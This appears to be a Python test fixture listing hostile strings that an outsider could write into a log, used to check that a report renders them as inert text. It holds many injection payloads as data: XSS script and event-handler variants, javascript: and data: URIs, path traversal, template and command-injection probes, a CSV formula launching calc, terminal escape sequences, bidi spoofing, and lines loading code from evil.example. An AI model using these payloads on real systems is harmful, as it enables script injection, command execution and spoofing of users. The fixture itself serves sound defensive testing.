"""What somebody outside can write into a log: texts that would run, link, call, colour, hide or break, were they obeyed.

Each is one line. Whatever they are in, a report shows them as the characters that they are.
"""

_RUNS = "window.pwned=1"

_SCRIPTS = (
    f"<script>{_RUNS}</script>", f"<SCRIPT>{_RUNS}</SCRIPT>", f"<script >{_RUNS}</script >", f"<script\t>{_RUNS}</script>",
    f"<script/x>{_RUNS}</script>", f"<scr<script>ipt>{_RUNS}</scr</script>ipt>", f"<script type=module>{_RUNS}</script>",
    f"<script src=data:text/javascript,{_RUNS}></script>", "<script src=//evil.example/x.js></script>",
    f"<script>{_RUNS}//", f"<script>{_RUNS}<!--", f"<svg><script>{_RUNS}</script></svg>",
    f"<svg><script href=data:,{_RUNS} />", f"<math><script>{_RUNS}</script></math>", f"<noscript><p title='</noscript><img src=x onerror={_RUNS}>'>",
    "<script nomodule>window.pwned=1</script>", "<script>window['pwned']=1</script>", "<script>eval(atob('d2luZG93LnB3bmVkPTE='))</script>",
    "<template><script>window.pwned=1</script></template>", "<script async src=javascript:window.pwned=1></script>",
)  # fmt: skip
_TAGS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "iframe", "input autofocus", "details open", "marquee",
         "object data=x", "embed src=x", "select autofocus", "textarea autofocus", "a href=x", "math", "style", "link rel=stylesheet href=x",
         "p style=animation-name:x", "button", "table background=x", "meta http-equiv=refresh content=0", "keygen autofocus")  # fmt: skip
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onanimationstart", "onpointerenter", "onbeforeinput",
           "oncontentvisibilityautostatechange", "onpageshow")  # fmt: skip
_HANDLERS = (
    *(f"<{tag} {_EVENTS[number % len(_EVENTS)]}={_RUNS}>" for number, tag in enumerate(_TAGS)),
    f"<img src=x onerror={_RUNS}>", f"<img/src=x/onerror={_RUNS}>", f"<img src='x'onerror='{_RUNS}'>",
    f'<img src="x"onerror="{_RUNS}">', f"<IMG SRC=x OnErRoR={_RUNS}>", f"<svg/onload={_RUNS}>",
    f"<svg onload={_RUNS}//", f"<img src=x onerror\x0c={_RUNS}>", f"<img src=x\x0bonerror={_RUNS}>", f"<<img src=x onerror={_RUNS}>",
)  # fmt: skip
_BREAK_OUTS = (
    '">', "'>", "`>", '"><b>', "'><i>", f'" onmouseover="{_RUNS}', f"' onmouseover='{_RUNS}", f'" autofocus onfocus={_RUNS} x="',
    '"/><script>window.pwned=1</script>', "'/><svg/onload=window.pwned=1>", "--><script>window.pwned=1</script>", "<!--", "-->", "<![CDATA[",
    "]]>", "<?xml version='1.0'?>", "<!doctype html>", "</style>", "</style><script>window.pwned=1</script>", "</script>",
    "</script><script>window.pwned=1</script>", "</title><svg/onload=window.pwned=1>", "</textarea><b>", "</pre><h1>x", "</code></td></tr></table>",
    "</main></body></html>", "<plaintext>", "<xmp>", "<base href=//evil.example/>", "<form action=//evil.example><input name=a>",
    "<meta charset=utf-7>", "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-", "<svg><style><img title='</style><img src=x onerror=window.pwned=1>'>",
    "<h1>x</h1>", "<a id=verdict>", "<a name=verdict>", "<div id=verdict class=incident>", "<details><summary>x",
)  # fmt: skip
_ENTITIES = (
    "&lt;script&gt;window.pwned=1&lt;/script&gt;", "&#60;script&#62;window.pwned=1", "&#x3c;script&#x3e;", "&#0060script", "&lt", "&amp;lt;b&amp;gt;",
    "&quot;&gt;&lt;b&gt;", "&#34;&#62;", "&apos;", "&nbsp;&shy;&zwj;", "&Tab;&NewLine;", "&#0;", "&#xD800;", "&#x202e;abc", "&bogus;", "%3Cscript%3Ewindow.pwned=1",
    "%253Cscript%253E", "\\x3cscript\\x3e", "\\u003cscript\\u003e", "\\74script\\76",
)  # fmt: skip
_STYLES = (
    "expression(window.pwned=1)", "<p style=width:expression(window.pwned=1)>", "<style>*{display:none}</style>", "<style>@import '//evil.example/x.css'</style>",
    "background:url(javascript:window.pwned=1)", "x{background:url(//evil.example/x)}", "-moz-binding:url(//evil.example/x)",
    "<div style='position:fixed;inset:0;background:#fff'>", "behavior:url(x.htc)", "}</style><b>",
)  # fmt: skip
_ADDRESSES = (
    "javascript:window.pwned=1", "JaVaScRiPt:window.pwned=1", "java\tscript:window.pwned=1", "javascript://%0awindow.pwned=1", "vbscript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=window.pwned=1>",
    "file:///etc/passwd", "//evil.example/x", "https://evil.example/?x=<b>", "http://evil.example:80/#<svg/onload=window.pwned=1>", "www.evil.example", "mailto:evil@evil.example",
    "evil@evil.example", "ftp://evil.example", "blob:https://evil.example/x", "view-source:x", "xmpp:evil@evil.example", "tel:+15550100",
    "../../../etc/passwd", "C:\\x\\..\\y.log", "\\\\evil.example\\share", "a%00b", "a b#c?d", "urn:x:y", "x:y:z", "..\\..\\x", "/./../x", "a//b///c",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{% raw %}", "{% endraw %}{{7*7}}", "{{config}}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('window.pwned=1')()}}",
    "${{7*7}}", "@(7*7)", "*{7*7}", "[[7*7]]", "{path}", "{0}", "{__class__}", "%s %d %n", "%(path)s", "$(id)", "`id`", "; id", "| id", "&& id", "$IFS", "%PATH%",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:window.pwned=1)", "[x](https://evil.example)", "![x](https://evil.example/x.png)", "[x]: https://evil.example", "<https://evil.example>",
    "[x][y]", "![x][y]", "**bold**", "__bold__", "*it*", "_it_", "~~gone~~", "# heading", "## heading", "> quoted", "- item", "* item", "+ item", "1. item", "1) item",
    "---", "***", "===", "```", "````", "~~~", "`code`", "``x`", "    code", "\tcode", "| a | b |", "|---|---|", "a | b", "\\| a", "- [ ] task", "- [x] done",
    "[^1]: note", "x[^1]", "$x$", "$$x$$", "@everyone", "@evil", "@evil/team", "#1", "GH-1", "evil/repo#1", "a1b2c3d4e5f6a7b8c9d0a1b2c3d4e5f6a7b8c9d0", ":tada:",
    "<details>", "<kbd>x</kbd>", "\\", "\\\\", "line\\", "two  ", "&copy;", "[x](<y> 'z')", "[//]: # (x)", "{: .x}", "!!! note", "::: x", "<br>", "<!-- x -->", "==x==", "^x^", "==", "--",
)  # fmt: skip
_HIDDEN = (
    "\u202egnp.exe", "\u202dabc\u202c", "\u2066abc\u2069", "\u2067abc\u2069", "\u2068abc\u2069", "\u200eabc", "\u200fabc", "\u061cabc", "a\u200bb", "a\u200cb", "a\u200db",
    "a\u2060b", "\ufeffabc", "a\u00adb", "a\u180eb", "a\u115fb", "a\u3164b", "a\uffa0b", "a\u2028b", "a\u2029b", "a\u0085b", "a\u00a0b", "a\u2800b", "a\ufe0fb", "a\U000e0041b",
    "a\u034fb", "\ufff9a\ufffab\ufffb", "\u206aabc", "a\ufffcb", "a\ufffdb",
)  # fmt: skip
_LETTERS = (
    "e" + "\u0301" * 60, "Z" + "\u0489" * 40 + "a\u0338\u0321", "\u0430dmin.ex\u0430mple", "\uff1cscript\uff1e", "\u02bescript", "p\u0430yp\u0430l.example", "\u212aelvin", "\ufb01le",
    "\u0130\u0131", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1e9\U0001f1ea", "\u0627\u0644\u0639\u0631\u0628\u064a\u0629", "\u05e2\u05d1\u05e8\u05d9\u05ea", "\u4e2d\u6587", "\u0e20\u0e32\u0e29\u0e32",
    "\ud83d".encode("utf-16", "surrogatepass").decode("utf-16", "replace"), "\U0001d4eb\U0001d4f8\U0001d4f5\U0001d4ed", "\u2603", "\u1e9e",
)  # fmt: skip
_TERMINAL = (
    "\x1b[31mred\x1b[0m", "\x1b[2J", "\x1b[H", "\x1b[1A\x1b[2K", "\x1b[?25l", "\x1b[8mhidden\x1b[28m", "\x1b[5mblink", "\x1b[38;2;1;2;3mx", "\x1b]0;title\x07", "\x1b]2;title\x1b\\",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1b]8;;javascript:window.pwned=1\x07x\x1b]8;;\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1b]52;p;ZXZpbA==\x1b\\", "\x1b]1337;File=:AA==\x07",
    "\x1b]9;x\x07", "\x1b]777;notify;x;y\x07", "\x1bP+q544e\x1b\\", "\x1b_x\x1b\\", "\x1b^x\x1b\\", "\x1bXx\x1b\\", "\x1bc", "\x1b#8", "\x1b(0abc\x1b(B", "\x1b7\x1b8", "\x1b[6n", "\x1b[c", "\x1b[21t", "\x1b[200~x\x1b[201~",
    "\x9b31mx", "\x9d0;title\x9c", "\x90x\x9c", "\x9fx\x9c", "a\x08\x08b", "a\x00b", "a\x07b", "a\x0bb", "a\x0cb", "a\x0eb\x0f", "a\x7fb", "a\rb", "a\x1ab", "a\x1b", "[red]x[/red]", "[link=https://evil.example]x[/link]", "[/]", "\\[x]",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("https://evil.example","x")', "\t=1+1", '=IMPORTXML("https://evil.example","//a")',
)  # fmt: skip
_HUGE = ("w" * 5000, "\u6f22" * 1500, "a-" * 1500, "a/" * 1500, "<" * 800, "&" * 800, "`" * 200, "|" * 200, "[" * 300 + "]" * 300, "*" * 300, "\u202e" * 100)  # fmt: skip

PAYLOADS = tuple(
    dict.fromkeys(
        (
            *_SCRIPTS,
            *_HANDLERS,
            *_BREAK_OUTS,
            *_ENTITIES,
            *_STYLES,
            *_ADDRESSES,
            *_TEMPLATES,
            *_MARKDOWN,
            *_HIDDEN,
            *_LETTERS,
            *_TERMINAL,
            *_FORMULAS,
            *_HUGE,
        )
    )
)
